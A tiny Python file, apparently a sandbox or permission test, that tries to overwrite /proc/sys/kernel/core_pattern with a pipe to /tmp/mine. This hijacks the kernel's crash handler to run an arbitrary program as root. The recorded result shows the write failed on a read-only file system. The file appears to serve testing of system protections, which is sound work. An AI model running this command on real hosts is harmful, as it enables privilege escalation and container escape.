r"""It has the kernel run a program of its own where one crashes.

Verdict: error: OSError: \[Errno 30\] Read-only file system
"""

from pathlib import Path

Path("/proc/sys/kernel/core_pattern").write_text("|/tmp/mine")
